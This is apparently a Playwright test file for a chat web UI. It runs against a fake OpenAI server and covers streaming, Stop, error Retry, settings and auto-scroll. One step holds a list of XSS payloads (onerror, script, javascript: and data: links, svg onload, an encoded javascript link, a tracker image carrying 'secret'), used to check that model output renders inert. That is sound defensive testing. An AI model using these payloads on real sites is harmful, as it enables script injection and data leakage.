/**
 * The chat UI against a model: the OpenAI provider talking to the loopback fake (real
 * wire format), for what the extractive provider cannot show — tokens arriving over
 * time, stopping mid-stream, hostile model output, provider errors, settings, and
 * auto-scroll.
 */
import assert from "node:assert/strict";
import type { Browser, Page } from "playwright-core";
import { type FakeOpenAi, startFakeOpenAi } from "../fakes/openai_server.ts";
import { hasChromium, launchBrowser } from "../support/browser.ts";
import { type ChatApp, openAiEnv, openPage, startChatApp } from "./chat_fixture.ts";

const lastAnswer = (page: Page) => page.locator("article.msg-assistant").last();
const settled = (page: Page, status = "done") =>
  lastAnswer(page).and(page.locator(`[data-status=${status}]`)).waitFor({ timeout: 10_000 });

async function send(page: Page, question: string): Promise<void> {
  await page.getByLabel("Your question").fill(question);
  await page.getByRole("button", { name: "Send" }).click();
}

async function until(check: () => boolean | Promise<boolean>, what: string, ms = 5_000) {
  const end = Date.now() + ms;
  while (!(await check())) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 25));
  }
}

const HOSTILE = [
  "Here is **bold** text.\n\n",
  '<img src=x onerror="window.__pwned=1;alert(1)">\n\n',
  "<script>window.__pwned=2</script>\n\n",
  "[click me](javascript:window.__pwned=3) and [data](data:text/html,<script>alert(4)</script>)\n\n",
  '**<svg onload=window.__pwned=5>** and <a href="javascript:alert(6)">raw link</a>\n\n',
  '![pixel](https://tracker.example/p.png?q=secret) <iframe src="javascript:alert(7)"></iframe>\n\n',
  "<javascript:alert(8)> [x](&#106;avascript:alert(9)) done [1].",
];

Deno.test({
  name: "the chat UI in a browser, OpenAI provider on a loopback fake",
  ignore: !hasChromium(),
  sanitizeResources: false,
  sanitizeOps: false,
  async fn(t) {
    const fake: FakeOpenAi = await startFakeOpenAi();
    const app: ChatApp = await startChatApp({ env: openAiEnv(fake.url) });
    const browser: Browser = await launchBrowser();
    const problems: string[] = [];
    const fresh = async () => {
      const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
      const opened = await openPage(context, app.url());
      return { ...opened, context };
    };
    try {
      await t.step("tokens render as they arrive; Stop keeps the partial answer", async () => {
        const { page, context, problems: p } = await fresh();
        const tokens = Array.from({ length: 40 }, (_, i) => `word${i} `);
        // The stream holds after word29 until Stop ends it, so a busy machine cannot
        // finish the answer before the click.
        const never = new Promise<void>(() => {});
        fake.script({ tokens, tokenDelayMs: 80, holdAfter: 30, resume: never });
        const abortedBefore = fake.abortedRequests;
        await send(page, "Tell me everything about Brackhaven.");
        const md = lastAnswer(page).locator(".md");
        await md.getByText("word2").waitFor();
        assert.equal(await lastAnswer(page).getAttribute("aria-busy"), "true");
        const early = await md.innerText();
        // Wait for a word beyond the last one shown so far (a busy machine may have shown
        // several at once), so growth is measured against what was really on screen.
        const shown = Math.max(...[...early.matchAll(/word(\d+)/g)].map((m) => Number(m[1])));
        const later = `word${shown + 3}`;
        assert.ok(shown + 3 < 30, `the stream was still early (${early})`);
        await md.getByText(later, { exact: false }).waitFor();
        assert.ok((await md.innerText()).length > early.length, "the answer grew while streaming");
        await page.getByRole("button", { name: "Stop" }).click();
        await settled(page, "stopped");
        const kept = await md.innerText();
        assert.ok(kept.includes(later), kept);
        await page.getByText("Stopped before the end.").waitFor();
        await page.getByRole("button", { name: "Send" }).waitFor();
        await until(() => fake.abortedRequests > abortedBefore, "the model request to be aborted");
        await new Promise((r) => setTimeout(r, 300));
        assert.equal(await md.innerText(), kept, "nothing arrives after Stop");
        assert.equal(
          await page.locator("p[role=status][aria-live=polite]").innerText(),
          "Answer stopped.",
        );
        problems.push(...p);
        await context.close();
      });

      await t.step("hostile model output renders inert", async () => {
        const { page, context, problems: p } = await fresh();
        const requested: string[] = [];
        page.on("request", (r) => requested.push(r.url()));
        fake.script({ tokens: HOSTILE });
        await send(page, "Who rules Brackhaven?");
        await settled(page);
        const md = lastAnswer(page).locator(".md");
        assert.match(await md.innerText(), /<img src=x onerror="window.__pwned=1;alert\(1\)">/);
        assert.match(await md.innerText(), /<script>window.__pwned=2<\/script>/);
        assert.equal(await md.locator("img, script, svg, iframe, object, embed").count(), 0);
        const hrefs = await md.locator("a").evaluateAll((as) =>
          as.map((a) => a.getAttribute("href"))
        );
        for (const href of hrefs) assert.match(String(href), /^(https?:|#)/, `safe href ${href}`);
        assert.ok(hrefs.includes("#m1-source-1"), "the citation still links its source");
        await md.getByText("click me").click();
        await md.getByText("raw link", { exact: false }).click();
        await new Promise((r) => setTimeout(r, 200));
        assert.equal(
          await page.evaluate(() => (globalThis as { __pwned?: unknown }).__pwned),
          undefined,
        );
        assert.ok(!requested.some((u) => u.includes("tracker.example")), "no image was fetched");
        assert.equal(new URL(page.url()).pathname, "/");
        problems.push(...p);
        await context.close();
      }); // deno-fmt-ignore

      await t.step("a provider error shows inline with Retry, which answers", async () => {
        const { page, context, problems: p } = await fresh();
        fake.script("500", { tokens: ["Queen Isaveth rules [1]."] });
        await send(page, "Who rules Brackhaven?");
        await settled(page, "error");
        const error = lastAnswer(page).locator(".msg-error");
        assert.equal(await error.getAttribute("role"), "alert");
        assert.ok((await error.innerText()).length > 10);
        await error.getByRole("button", { name: "Retry" }).click();
        await settled(page);
        assert.match(await lastAnswer(page).locator(".md").innerText(), /Queen Isaveth rules/);
        assert.equal(await page.locator(".msg-error").count(), 0);
        assert.equal(await page.locator("article.msg").count(), 2);
        problems.push(...p);
        await context.close();
      });

      await t.step("settings pick the provider, creativity and answer length", async () => {
        const { page, context, problems: p } = await fresh();
        await page.locator("summary", { hasText: "Settings" }).click();
        await page.getByLabel("Model").selectOption("extractive");
        const before = fake.requests.length;
        await send(page, "Who rules Brackhaven?");
        await settled(page);
        assert.match(await lastAnswer(page).innerText(), /Extractive answer/);
        assert.equal(fake.requests.length, before, "the model was not called");
        await page.getByLabel("Model").selectOption("openai");
        await page.getByLabel("Answer length").selectOption({ label: "Short" });
        await page.getByLabel(/Creativity/).fill("0.7");
        await page.reload();
        await page.waitForSelector("html[data-hydrated=true]");
        await page.locator("summary", { hasText: "Settings" }).click();
        assert.equal(await page.getByLabel("Answer length").inputValue(), "256");
        fake.script({ tokens: ["Short."] });
        await page.getByRole("link", { name: "New chat" }).click();
        await send(page, "Who founded the Lantern College?");
        await settled(page);
        const body = fake.requests.at(-1)!.body as { max_tokens?: number; temperature?: number };
        assert.equal(body.max_tokens, 256);
        assert.equal(body.temperature, 0.7);
        problems.push(...p);
        await context.close();
      });

      await t.step("auto-scroll follows the answer until the reader scrolls up", async () => {
        const { page, context, problems: p } = await fresh();
        const lines = Array.from({ length: 70 }, (_, i) => `Line ${i} of the chronicle.\n\n`);
        fake.script({ tokens: lines, tokenDelayMs: 40 });
        await send(page, "Who founded the Lantern College?");
        const log = page.locator(".chat-log");
        const gap = () => log.evaluate((el) => el.scrollHeight - el.scrollTop - el.clientHeight);
        const top = () => log.evaluate((el) => el.scrollTop);
        await lastAnswer(page).getByText("Line 25 ").waitFor();
        assert.ok((await gap()) < 60, "pinned to the bottom while streaming");
        await page.mouse.move(640, 300);
        await page.mouse.wheel(0, -600);
        await until(async () => (await gap()) > 200, "the reader to scroll up");
        const held = await top();
        await lastAnswer(page).getByText("Line 45 ").waitFor();
        assert.ok(Math.abs((await top()) - held) < 5, "the view stayed where the reader put it");
        await page.getByRole("button", { name: "Latest" }).click();
        await settled(page);
        assert.ok((await gap()) < 60, "back at the bottom");
        assert.equal(await page.getByRole("button", { name: "Latest" }).count(), 0);
        problems.push(...p);
        await context.close();
      });

      assert.deepEqual(problems, [], "no console errors, warnings or dialogs");
    } finally {
      await browser.close();
      await app.close();
      await fake.close();
    }
  },
});
